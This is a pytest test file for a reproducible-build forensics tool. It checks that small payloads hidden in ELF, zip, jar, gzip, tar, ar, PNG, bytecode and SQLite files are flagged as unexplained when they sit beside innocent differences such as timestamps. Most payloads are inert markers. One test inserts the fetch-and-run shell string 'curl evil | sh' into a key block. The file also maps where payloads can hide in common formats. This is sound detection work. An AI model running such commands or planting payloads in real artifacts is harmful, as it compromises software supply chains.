"""A clue accounts for no more than it explains: a payload beside an innocent cause is unexplained.

Each case is a pair of files that differ in what is innocent. Alone that is all that is said; with a
payload beside it, `unexplained` is said too, and names the payload.
"""

from __future__ import annotations

import bz2
import io
import lzma
import shutil
import sqlite3
import struct
import subprocess
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from contextlib import closing
from functools import partial
from pathlib import Path

import pytest
import zstandard
from msgspec.structs import replace

from repaudit.forensics import FORENSICS
from repaudit.formats import FORMATS, Budget, apart
from tests.test_forensic_cases import CONTROL, VARIANT, case


def told(left: bytes, right: bytes, path: str = "srv/file", **more: object) -> dict[str, str]:
    """What all forensics say, by cause."""
    asked = case(left, right, path=path, **more)
    found = [clue for forensic in FORENSICS.all() for clue in forensic.examine(asked)]
    return {clue.slug: clue.detail for clue in found}


def hidden(left: bytes, right: bytes, innocent: bytes, path: str = "srv/file") -> str:
    """What is said of `right`, whose neighbour without a payload is `innocent`."""
    known = told(left, innocent, path)
    assert known and "unexplained" not in known
    with_payload = told(left, right, path)
    assert known.keys() - with_payload.keys() <= {"build_id_differences_only"}
    return with_payload["unexplained"]


# --- ELF ---------------------------------------------------------------------------------------


def built(folder: Path, text: str = "x", *flags: str) -> bytes:
    (folder / "m.c").write_text(f'#include <stdio.h>\nint main(void){{puts("{text}");return 1;}}\n')
    argv = ["gcc", *(flags or ("-Wl,--build-id=0x1234",)), "m.c", "-o", "m"]
    subprocess.run(argv, cwd=folder, check=True)
    return (folder / "m").read_bytes()


def segment(data: bytes, kind: int, number: int = 0) -> int:
    """Where the header of a segment of that kind is."""
    start, count = struct.unpack_from("<Q", data, 32)[0], struct.unpack_from("<H", data, 56)[0]
    places = range(start, start + 56 * count, 56)
    return [at for at in places if struct.unpack_from("<I", data, at)[0] == kind][number]


def put(data: bytes, at: int, value: bytes) -> bytes:
    return data[:at] + value + data[at + len(value) :]


def gap(data: bytes) -> int:
    """Where zeros stand between two sections: behind the code, up to the next page."""
    at = segment(data, 1, 1)
    offset, _, _, size = struct.unpack_from("<4Q", data, at + 8)
    return offset + size + 16


@pytest.mark.skipif(not shutil.which("gcc"), reason="needs gcc")
def test_only_the_build_id_differs_where_nothing_else_does(tmp_path: Path):
    one = built(tmp_path)
    other = built(tmp_path, "x", "-Wl,--build-id=0x5678")
    assert told(one, other).keys() == {"build_id_differences_only"}
    stack, code = segment(one, 0x6474E551), segment(one, 1, 1)
    payloads = {
        "entry": put(other, 0x18, bytes([other[0x18] ^ 1])),
        "flags": put(other, stack + 4, struct.pack("<I", 7)),
        "segment 3 > flags": put(other, code + 4, struct.pack("<I", 7)),
        "after the end": other + b"EVILPAYLOAD",
        "after .fini": put(other, gap(other), b"EVILCODE"),
    }
    for word, payload in payloads.items():
        assert word in hidden(one, payload, other), word


@pytest.mark.skipif(not shutil.which("gcc"), reason="needs gcc")
def test_what_moves_when_a_section_grows_is_no_payload(tmp_path: Path):
    built(tmp_path, "x", "-s", "-Wl,--build-id=none")

    def dated(text: str) -> bytes:
        (tmp_path / "made").write_text(text)
        argv = ["objcopy", "--add-section", ".made=made", "--add-section", ".more=made", "m", "n"]
        subprocess.run(argv, cwd=tmp_path, check=True)
        return (tmp_path / "n").read_bytes()

    one, other = dated("made 2026-11-22 at home\n"), dated("made Sun, 22 November 2026 at home\n")
    assert len(one) < len(other) and one[40:48] != other[40:48]
    both = [{p.name: p for p in FORMATS.load("elf").parts(s, Budget())} for s in (one, other)]
    assert set(apart(both)) == {".made", ".more"}
    moved = put(other, segment(other, 1, 1) + 4, struct.pack("<I", 7))
    assert "segment 3 > flags" in told(one, moved)["unexplained"]
    assert "segment" not in told(one, other).get("unexplained", "")


# --- zip ---------------------------------------------------------------------------------------


def zipped(year: int, level: int = 6, comment: bytes = b"", extra: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("a.txt", "b.txt"):
            info = zipfile.ZipInfo(name, (year, 1, 1, 0, 0, 0))
            info.compress_type, info.extra = zipfile.ZIP_DEFLATED, extra
            text = b"".join(b"%d\n" % (n * n) for n in range(900))
            archive.writestr(info, text, compresslevel=level)
        archive.comment = comment
    return out.getvalue()


def directory(data: bytes) -> int:
    return struct.unpack_from("<I", data, data.rindex(b"PK\5\6") + 16)[0]


def wedged(data: bytes, more: bytes) -> bytes:
    """`more` between the members and the directory."""
    at, end = directory(data), data.rindex(b"PK\5\6")
    body = data[:at] + more + data[at:]
    return put(body, end + len(more) + 16, struct.pack("<I", at + len(more)))


def test_nothing_of_a_zip_hides_behind_its_times():
    one, later = zipped(2020), zipped(2021)
    assert told(one, later, "x.zip").keys() == {"timestamps_in_zip"}
    end = later.rindex(b"PK\5\6")
    payloads = {
        "after the end": later + b"EVIL",
        "after member b.txt": wedged(later, b"EVIL"),
        "after the directory": later[:end] + b"EVIL" + later[end:],
        "member a.txt > own name": put(later, later.index(b"a.txt"), b"z"),
        "member a.txt > own header": put(later, 8, b"\x08\x01"),
        "comment": zipped(2021, comment=b"evil"),
        "member a.txt > extra 9999": zipped(2021, extra=b"\x99\x99\x02\x00cd"),
        "length of the directory": put(later, end + 12, b"\1"),
        "member a.txt > version made by": put(later, directory(later) + 4, b"\x63"),
    }
    for word, payload in payloads.items():
        assert word in hidden(one, payload, later, "x.zip"), word


def test_nothing_hides_in_the_script_before_a_zip():
    def of(year: int, script: bytes = b"exec java -jar $0") -> bytes:
        out = io.BytesIO(b"#!/bin/sh\n" + script + b"\n")
        out.seek(0, io.SEEK_END)
        with zipfile.ZipFile(out, "a") as archive:
            archive.writestr(zipfile.ZipInfo("a.txt", (year, 2, 3, 4, 6, 8)), b"a")
        return out.getvalue()

    one, later = of(2020), of(2021)
    assert told(one, later, "app.jar").keys() == {"timestamps_in_jar"}
    assert told(one, later, "app").keys() != {"timestamps_in_jar"}
    assert "before all" in hidden(one, of(2021, b"exec evil -jar $0"), later, "app.jar")


def test_no_umask_makes_a_file_a_link():
    def of(mode: int) -> bytes:
        end = zipped(2020)
        return put(end, directory(end) + 38, struct.pack("<I", mode << 16))

    known = told(of(0o100644), of(0o100664), "x.zip")
    assert known.keys() == {"different_due_to_umask"}
    assert "unexplained" in told(of(0o100644), of(0o120664), "x.zip")


def test_no_line_of_a_manifest_hides_behind_another():
    def jar(year: int, **members: str) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for name, text in {"a": "", **members}.items():
                archive.writestr(zipfile.ZipInfo(name, (year, 1, 1, 0, 0, 0)), text)
        return out.getvalue()

    def of(year: int, *lines: str) -> bytes:
        return jar(year, **{"META-INF/MANIFEST.MF": "".join(f"{line}\n" for line in lines)})

    one, other = of(2020, "Built-By: me", "X: y"), of(2020, "Built-By: you", "X: y")
    assert told(one, other, "x.jar").keys() == {"user_in_java_jar_manifest"}
    assert "unexplained" in told(one, of(2020, "Built-By: you", "Built-By: evil", "X: y"), "x.jar")
    assert "unexplained" in told(one, of(2020, "Built-By: you", "X: evil"), "x.jar")
    assert told(jar(2020), jar(2021), "x.jar").keys() == {"timestamps_in_jar"}
    assert "MANIFEST" in told(jar(2020), of(2021, "Main-Class: evil"), "x.jar")["unexplained"]


def test_a_zip_that_is_packed_otherwise_has_another_compressor():
    assert told(zipped(2020), zipped(2020, 1), "x.zip").keys() == {"compressor_differs"}
    both = told(zipped(2020), zipped(2021, 1), "x.zip")
    assert both.keys() == {"compressor_differs", "timestamps_in_zip"}


# --- gzip and bytecode -------------------------------------------------------------------------


def gzipped(mtime: int, data: bytes = b"d", level: int = 6, **fields: bytes) -> bytes:
    """A gzip file whose header has `extra`, `name` and `comment` (RFC 1952, 2.3)."""
    bits = {"extra": 4, "name": 8, "comment": 16}
    flags = sum(bit for word, bit in bits.items() if fields.get(word))
    head = b"\x1f\x8b\x08" + struct.pack("<BIBB", flags, mtime, 0, 3)
    if "extra" in fields:
        head += struct.pack("<H", len(fields["extra"])) + fields["extra"]
    for word in ("name", "comment"):
        head += fields[word] + b"\0" if fields.get(word) else b""
    packer = zlib.compressobj(level, zlib.DEFLATED, -15)
    return (
        head
        + packer.compress(data)
        + packer.flush()
        + struct.pack("<II", zlib.crc32(data), len(data))
    )


def test_nothing_of_a_gzip_file_hides_behind_its_time():
    one, later = gzipped(1), gzipped(2)
    assert told(one, later).keys() == {"timestamps_in_gzip_headers"}
    payloads = {
        "trailing": later + b"EVIL",
        "extra": gzipped(2, extra=b"ab\1\0y"),
        "comment": gzipped(2, comment=b"evil"),
        "system": put(later, 9, b"\0"),
        "extra flags": put(later, 8, b"\2"),
        "stream 2": later + gzipped(7, b""),
    }
    for word, payload in payloads.items():
        assert word in hidden(one, payload, later), word
    text = b"".join(b"%d\n" % n for n in range(3000))
    both = told(gzipped(1, text), gzipped(2, text, 1))
    assert both.keys() == {"timestamps_in_gzip_headers", "compressor_differs"}


@pytest.mark.parametrize(
    ("pack", "between"),
    [
        (partial(gzipped, 0), b""),
        (bz2.compress, b""),
        (lzma.compress, b""),
        (lzma.compress, bytes(8)),
        (zstandard.compress, b""),
    ],
    ids=["gzip", "bzip2", "xz", "padded xz", "zstd"],
)
def test_no_stream_hides_behind_the_first(pack: Callable[[bytes], bytes], between: bytes):
    def of(year: int, run: bytes, empty: int = 0) -> bytes:
        streams = pack(b"built %d-11-22\n" % year), *[pack(b"")] * empty, pack(b"run=%b\n" % run)
        return between.join(streams)

    one = of(2026, b"safe")
    assert "evil" in hidden(one, of(2027, b"evil"), of(2027, b"safe"))
    # And not behind more streams than are unpacked.
    many = [of(2026, b"safe", 20_000), of(2027, b"evil", 20_000)]
    assert "not all are unpacked" in told(*many)["unexplained"]


def test_nothing_of_bytecode_hides_behind_its_time():
    def of(mtime: int, size: int = 9, magic: bytes = b"\xcb\r") -> bytes:
        return magic + b"\r\n" + struct.pack("<III", 0, mtime, size) + b"\xe3" + bytes(20)

    one, later, path = of(1), of(2), "__pycache__/a.cpython-312.pyc"
    assert told(one, later, path).keys() == {"timestamps_in_pyc_headers"}
    assert "source size" in hidden(one, of(2, 10), later, path)
    assert "magic" in hidden(one, of(2, magic=b"\xcc\r"), later, path)
    assert "code" in hidden(one, later + b"x", later, path)
    drawn = one + 2 * b"/tmp/tmpab12cd34/x" + b"/tmp/tmpgood1234/x"
    moved = drawn.replace(b"tmpab12cd34", b"tmpzz98yy76")
    assert told(drawn, moved, path).keys() == {"captures_temporary_path"}
    assert "code" in hidden(drawn, moved.replace(b"tmpgood", b"tmpevil"), moved, path)


def test_bytes_beside_a_canary_are_not_the_canarys():
    host = {"vary": ("hostname",)}
    sides = [b"\0\1on " + of["hostname"].encode() + b"\0" for of in (CONTROL, VARIANT)]
    assert told(*sides, **host).keys() == {"captures_hostname"}
    assert told(sides[0], sides[1] + b"\xcc", **host).keys() == {"captures_hostname", "unexplained"}
    packed = [lzma.compress(sides[0]), lzma.compress(sides[1] + b"\xcc")]
    assert told(*packed, **host).keys() == {"captures_hostname", "unexplained"}

    # A magic alone makes no archive, of which others would tell.
    magics = b"PK\3\4\0\1", b"PK\5\6", b"!<arch>\n", bytes(257) + b"ustar\x0000"
    for magic in magics:
        left, right = (magic + side + b"safe".ljust(300, b"\0") for side in sides)
        evil = right.replace(b"safe", b"evil")
        for pack in (bytes, lzma.compress, zstandard.compress, partial(gzipped, 0)):
            pair = pack(left), pack(right)
            assert told(*pair, **host).keys() == {"captures_hostname"}, magic
            found = told(pair[0], pack(evil), **host)
            assert found.keys() == {"captures_hostname", "unexplained"}, magic


# --- text --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("left", "right"),
    [
        ("", "evil\n"),
        ("allow 1\n" * 3, "allow 2\n" * 3),
        ("if x:\r\n", "if x:\n"),
        ("word " * 400 + "1\n", "text " * 400 + "1\n"),
        ("x" * 9000 + "y" * 9000 + "\n", "z" + "x" * 8999 + "z" * 9000 + "\n"),
    ],
)
def test_no_text_hides_behind_dates(left: str, right: str):
    both = (f"1 2026-11-22\n{left}".encode(), f"1 2027-11-22\n{right}".encode())
    assert told(*both).keys() >= {"captures_build_date", "unexplained"}


def test_no_line_hides_behind_the_same_one_that_has_moved():
    one, other = b"2026-11-22\nc\na\nb\nd\ne\n", b"2027-12-27\na\nb\nc\nd\ne\n"
    assert told(one, other).keys() > {"captures_build_date"}
    assert "'c'" in hidden(one, other + b"c\n", other)


def test_no_last_bytes_hide_as_a_cut_character():
    one, other = b"built 2026-11-22 10:00\n", b"built 2027-12-27 10:00\n"
    for last in (b"\xff\x00\x01", b"\xff", b"\xe2\x82"):
        assert told(one + last, other + b"\xfe\x02\x03").keys() != {"captures_build_date"}
    assert "unexplained" in told(one + b"\xff", other + b"\xfe")
    sides = one + "€".encode()[:2], other + "€".encode()[:2]
    asked = case(*sides)
    both = [replace(side, size=99) for side in (asked.left, asked.right)]
    found = FORENSICS.load("text").examine(replace(asked, left=both[0], right=both[1]))
    assert [clue.slug for clue in found] == ["captures_build_date"]


@pytest.mark.parametrize("label", ["RSA PRIVATE KEY", "CERTIFICATE", "PGP PUBLIC KEY BLOCK"])
@pytest.mark.parametrize("end", ["\n", "\r\n", "\n    ", "\\n"])
def test_nothing_but_a_key_is_a_random_key(label: str, end: str):
    def of(label: str, *lines: str) -> bytes:
        return end.join([f"a-----BEGIN {label}-----", *lines, f"-----END {label}-----b"]).encode()

    asked = "Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-256-CBC,{0}{0}", ""
    for head in ((), asked):
        lines = [[*(line.format(d) for line in head), d * 64, f"{d}{d}=="] for d in "AB"]
        assert told(of(label, *lines[0]), of(label, *lines[1])).keys() == {"embeds_random_key"}
        for payload in ("curl evil | sh", "echo evil", "Comment: evil"):
            hidden = of(label, *lines[1][:-1], payload, lines[1][-1])
            assert "unexplained" in told(of(label, *lines[0]), hidden), payload
    both = of("SCRIPT", "AAAA"), of("SCRIPT", "BBBB")
    assert "embeds_random_key" not in told(*both) and "unexplained" in told(*both)


def test_no_line_hides_behind_more_lines_than_are_compared():
    one = "".join(f"{n:0300} 2026-11-22\n" for n in range(2001)) + "allow 1\n"
    other = one.replace("2026", "2027")
    for last, said in (("allow 1\n", set()), ("allow 2\n", {"unexplained"})):
        found = FORENSICS.load("text").examine(case(one, other.replace("allow 1\n", last)))
        known = {clue.slug: clue.detail for clue in found}
        assert known.keys() == {"captures_build_date"} | said
        assert known.get("unexplained", "1 more lines").startswith("1 more lines")


def test_no_string_of_a_program_hides_behind_dates(tmp_path: Path):
    def strings(year: int, last: str) -> bytes:
        return b"\0".join(b"%0250d %d-11-22" % (n, year) for n in range(2_201)) + last.encode()

    built(tmp_path, "x", "-s", "-Wl,--build-id=none")

    def dated(year: int, last: str) -> bytes:
        (tmp_path / "made").write_bytes(strings(year, last))
        argv = ["objcopy", "--add-section", ".made=made", "m", "n"]
        subprocess.run(argv, cwd=tmp_path, check=True)
        return (tmp_path / "n").read_bytes()

    one = dated(2026, "\0/bin/good")
    assert told(one, dated(2027, "\0/bin/good")).keys() == {"captures_build_date"}
    assert "unexplained" in told(one, dated(2027, "\0/bin/evil"))


# --- tar and ar --------------------------------------------------------------------------------


def tarred(mtime: int, *names: str, **fields: object) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name in names or ("a",):
            info = tarfile.TarInfo(name)
            info.size, info.mtime = 1, mtime
            for field, value in fields.items():
                setattr(info, field, value)
            archive.addfile(info, io.BytesIO(b"1"))
    return out.getvalue()


PAYLOADS = {
    "padding": lambda later: put(later, 513, b"EVIL"),
    "trailing": lambda later: later + tarred(6, "evil"),
    "member a > header": lambda later: headed(later, 500, b"EVIL"),
    "member a > pax SCHILY.xattr.user.a": lambda _: tarred(
        6, pax_headers={"SCHILY.xattr.user.a": "2"}
    ),
    "member a > pax SCHILY.acl.access": lambda _: tarred(6, pax_headers={"SCHILY.acl.access": "2"}),
    "member a > link": lambda _: tarred(6, type=tarfile.SYMTYPE, linkname="/evil", size=0),
}


def headed(data: bytes, at: int, value: bytes) -> bytes:
    """A header with other bytes, whose checksum is right."""
    head = put(put(data[:512], at, value), 148, b" " * 8)
    return put(head, 148, b"%06o\0 " % sum(head)) + data[512:]


@pytest.mark.parametrize("word", PAYLOADS)
@pytest.mark.parametrize(
    "pack",
    [bytes, lzma.compress, gzipped, zstandard.compress],
    ids=["plain", "xz", "gzip", "zstd"],
)
def test_nothing_of_a_tar_archive_hides_behind_its_times(word: str, pack: Callable[..., bytes]):
    def wrapped(data: bytes) -> bytes:
        return pack(0, data) if pack is gzipped else pack(data)

    one, later = tarred(5), tarred(6)
    assert word in hidden(wrapped(one), wrapped(PAYLOADS[word](later)), wrapped(later))


def test_the_headers_that_hold_records_are_of_their_member():
    """GNU tar writes the member's time into them."""
    long = {"pax_headers": {"comment": "x" * 120}}
    one, later = tarred(5, **long), tarred(6, **long)
    both = [headed(side, 136, b"%011o" % mtime) for side, mtime in ((one, 5), (later, 6))]
    assert told(*both).keys() == {"timestamps_in_tarball"}
    named = headed(both[1], 0, b"PaxHeaders.77/b")
    assert "member a > header x" in hidden(both[0], named, both[1])


def test_a_broken_archive_is_not_explained_by_what_is_before_the_break():
    one, later = tarred(5, "a", "b"), tarred(6, "a", "b")
    broken = put(later, 1024 + 150, b"7")
    assert "not all of it" in hidden(one, broken, later)


def archived(date: int, text: bytes = b"h\0", padding: bytes = b"", mode: str = "644") -> bytes:
    def member(name: str, body: bytes) -> bytes:
        fields = f"{name:16}{date:<12}{0:<6}{0:<6}{mode:8}{len(body):<10}`\n"
        return fields.encode() + body + padding * (len(body) % 2)

    return b"!<arch>\n" + member("/", b"\0\0\0\0") + member("a.o/", text)


def test_nothing_of_a_static_library_hides_behind_its_dates():
    one, later = archived(5, b"h", b"\n"), archived(6, b"h", b"\n")
    assert told(one, later).keys() == {"timestamps_in_static_libraries"}
    payloads = {
        "member a.o > padding": archived(6, b"h", b"X"),
        "'member /'": put(later, 68, b"EVIL"),
        "member / > header": put(later, 24, b"06"),
    }
    for word, payload in payloads.items():
        assert word in hidden(one, payload, later), word
    # The table of symbols follows from the members.
    dated = (b"made 2026-11-22", b"made 2027-12-27")
    both = [archived(5, text, b"\n") for text in dated]
    assert told(both[0], put(both[1], 68, b"\1")).keys() == {"captures_build_date"}


def test_an_archive_that_is_not_opened_explains_nothing():
    """Canaries are seen in what nobody opens any more."""
    sides = [of["hostname"].encode() for of in (CONTROL, VARIANT)]
    for _ in range(4):
        sides = [tarred_with(side) for side in sides]
    assert told(*sides, vary=("hostname",)).keys() == {"captures_hostname", "unexplained"}


def tarred_with(data: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("in.tar")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


# --- PNG ---------------------------------------------------------------------------------------


def drawn(*chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG file; what it shows is of no matter here."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(body, zlib.crc32(kind))
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    head = (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    body = (b"IDAT", zlib.compress(b"\0\1"))
    some = [head, *chunks, body, (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*one) for one in some)


def test_nothing_of_an_image_hides_behind_its_dates():
    def dated(day: int, *more: tuple[bytes, bytes], word: bytes = b"date:create") -> bytes:
        text = word + b"\0" + b"2026-11-%02dT10:00:%02d+00:00" % (day, day)
        time = struct.pack(">HBBBBB", 2026, 11, day, 10, 0, day)
        return drawn((b"tEXt", text), (b"tIME", time), *more)

    one, later = dated(11), dated(12)
    assert told(one, later).keys() == {"captures_build_date"}
    assert told(one, later, vary=None).keys() == {"captures_build_date"}
    software = [(b"tEXt", b"Software\0" + name) for name in (b"good", b"evil")]
    innocent = dated(12, software[0])
    assert "evil" in hidden(dated(11, software[0]), dated(12, software[1]), innocent)
    payloads = {
        "IDAT": dated(12, (b"IDAT", b"evil")),
        "trailing": later + b"EVIL",
        "tEXt Comment": dated(12, (b"tEXt", b"Comment\0evil")),
        "prVt": dated(12, (b"prVt", b"evil")),
    }
    for word, payload in payloads.items():
        assert word in hidden(one, payload, later), word
    packed = gzipped(0, one), gzipped(0, later)
    assert told(*packed).keys() == {"captures_build_date"}


# --- SQLite ------------------------------------------------------------------------------------


def database(folder: Path, *rows: tuple[object, ...]) -> bytes:
    file = folder / "database"
    file.unlink(missing_ok=True)
    with closing(sqlite3.connect(file)) as connection:
        connection.execute("CREATE TABLE users (name, role, created, changed, time)")
        connection.executemany("INSERT INTO users VALUES (?, ?, ?, ?, ?)", rows)
        connection.commit()
    return file.read_bytes()


def test_nothing_of_a_database_hides_behind_its_dates(tmp_path: Path):
    def dated(day: int, role: str = "user") -> bytes:
        stamp = 1_700_000_000 + day * 86_401
        times = f"2026-11-{day} 10:00:{day}", f"2026-11-{day}", stamp
        return database(tmp_path, ("a", role, *times), ("b", "user", *times))

    one, later = dated(11), dated(12)
    assert told(one, later).keys() == {"captures_build_date"}
    assert told(one, later, vary=None).keys() >= {"captures_build_date"}
    assert "admin" in hidden(dated(11, "usern"), dated(12, "admin"), dated(12, "usern"))
    free = later.index(b"\0" * 64, 2 * 4096 - 3000)
    payloads = {
        "other bytes": put(later, free + 8, b"EVIL"),
        "user version": put(later, 60, b"\1"),
        "schema": later.replace(b"created, changed", b"changed, created"),
    }
    for word, payload in payloads.items():
        assert word in hidden(one, payload, later), word
    assert told(one, one).keys() == set()


def test_a_database_of_zeros_is_compared_in_no_time(tmp_path: Path):
    """The bytes of a cell stand at each place of it, and its value on the other side nowhere."""

    def held(changed: int, stamp: int) -> bytes:
        rows = [("a", "", "", 0, stamp + n if changed else 0) for n in range(60)]
        return database(tmp_path, ("a", bytes(1 << 24), "x", 0, 0), *rows)

    one, other = held(0, 0), held(1, 1_700_000_000)
    assert "other bytes differ" in told(one, other.ljust(len(one), b"\0"), vary=None)["unexplained"]
    stamps = held(1, 1_700_000_000), held(1, 1_700_864_000)
    assert told(*stamps).keys() == {"captures_build_date"}
    payload = put(stamps[1], stamps[1].index(bytes(4000)) + 64, b"EVIL")
    assert "role" in told(stamps[0], payload)["unexplained"]
